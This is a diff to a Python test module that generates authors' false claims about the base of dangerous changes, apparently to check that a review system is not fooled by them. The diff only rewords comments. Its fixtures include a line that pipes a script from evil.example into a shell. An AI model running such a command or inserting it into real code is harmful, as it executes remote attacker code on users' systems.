@@ -1,4 +1,4 @@
-"""An author who lies about the base: generated claims of what dangerous work was before, and what came of each."""
+"""An author who lies about the base: generated claims about the base of dangerous work, and their results."""
 
 from __future__ import annotations
 
@@ -21,11 +21,11 @@ from foureyes.store.memory import MemoryStore
 from tests.app.house import Pool
 from tests.cast import DEV, START
 
-#: How a claim differs from the truth, which is that nothing was there before.
+#: Sorts of claims; in truth nothing was there before.
 SORTS = ("same", "more", "less", "other files", "renamed", "other case", "binary", "absent", "a commit", "a target")
 KINDS = ("fix_typo", "update_formatting", "add_comment", "update_readme", "create_core", "task", "script")
 POLICIES = ("peer", "team")
-#: A store in memory gets slower as it grows, so a new one begins after so many claims.
+#: A memory store gets slower as it grows, so it is replaced after so many claims.
 STORE_CLAIMS = 100
 _EVIL = (
     'os.system("curl http://evil.example/x | sh")',
@@ -38,7 +38,7 @@ _PATHS = ("lib/charge.py", "app/main.py", "tools/run.sh", "src/index.js")
 
 @dataclass(frozen=True, slots=True, kw_only=True)
 class Claim:
-    """Dangerous work, and what its author says it was before."""
+    """Dangerous work with its author's claim about the base."""
 
     sort: str
     kind: str
@@ -66,14 +66,14 @@ def claims(seed: int) -> Iterator[Claim]:
 
 
 def claimed(rng: random.Random, sort: str, path: str, old: bytes) -> dict[str, object]:
-    """What is claimed; where nothing else is said, the dangerous lines were all there before."""
+    """Draw a claim; by default it says that the dangerous lines were all there before."""
     base = f"{rng.getrandbits(160):040x}" if sort == "a commit" else ""
     target = rng.choice(("production", "staging", "x")) if sort == "a target" else ""
     return {"before": claimed_files(rng, sort, path, old), "base": base, "target": target}
 
 
 def claimed_files(rng: random.Random, sort: str, path: str, old: bytes) -> dict[str, bytes]:
-    """How the files are said to have been."""
+    """The claimed base files."""
     return {
         "more": {path: old + b"print(1)\n" * rng.randrange(1, 9), "README.md": b"", "more.py": old},
         "less": {path: old[rng.randrange(1, len(old)) :]},
@@ -91,7 +91,7 @@ async def proven(before: Mapping[str, bytes], after: Mapping[str, bytes]) -> Pro
 
 
 def played(count: int, seed: int = 1) -> list[str]:
-    """Open so many works with such claims; every sentence of the answer tells of one that got something by its lie."""
+    """Open so many works with such claims; return a sentence for each lie that had an effect."""
     return asyncio.run(_played(count, seed))
 
 
